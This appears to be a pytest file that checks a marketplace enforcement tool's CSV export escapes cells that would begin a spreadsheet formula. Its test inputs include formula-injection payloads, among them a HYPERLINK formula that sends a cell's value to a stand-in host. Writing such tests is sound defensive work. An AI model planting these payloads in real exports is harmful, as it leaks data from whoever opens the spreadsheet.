"""The enforcement CSV never hands a spreadsheet a formula taken from marketplace input."""

from __future__ import annotations

import csv
import io

import pytest

from ringwatch.enforcement.journal import CSV_COLUMNS, render_actions


def action(target_id: str, *, reason: str = "shared payout account", held: float = 12.5) -> dict:
    """One planned action, as the journal holds it, aimed at ``target_id``."""
    return {"action_id": "a1", "batch_id": "b1", "ring_id": "R-1", "action": "suspend_account",
            "target": {"type": "creator", "id": target_id}, "rule": "confirmed-identity",
            "reason": reason, "commission_held": held, "currency": "USD", "ring_version": 2,
            "created_at": "2026-11-02T02:00:00Z"}


def rows(actions: list[dict]) -> list[dict[str, str]]:
    text = render_actions(actions, "csv").decode()
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert all(tuple(row) == CSV_COLUMNS for row in parsed)
    return parsed


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3",
                                     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_cell_that_would_start_a_formula_is_written_as_text(hostile: str) -> None:
    [row] = rows([action(hostile, reason=hostile)])
    assert row["target_id"] == "'" + hostile
    assert row["reason"] == "'" + hostile


def test_plain_cells_and_numbers_are_written_as_they_are() -> None:
    [row] = rows([action("creator-7", held=-3.5)])
    assert row["target_id"] == "creator-7"
    assert row["commission_held"] == "-3.5"  # a negative amount is a number, not a formula
    assert row["created_at"] == "2026-11-02T02:00:00Z"


def test_the_jsonl_export_keeps_the_id_as_it_is() -> None:
    text = render_actions([action("=1+1")], "jsonl").decode()
    assert '"id": "=1+1"' in text


def test_a_carriage_return_inside_a_cell_does_not_end_the_row() -> None:
    [row] = rows([action("c7", reason="first line\rsecond line")])
    assert row["reason"] == "first line\rsecond line" and row["created_at"] == "2026-11-02T02:00:00Z"
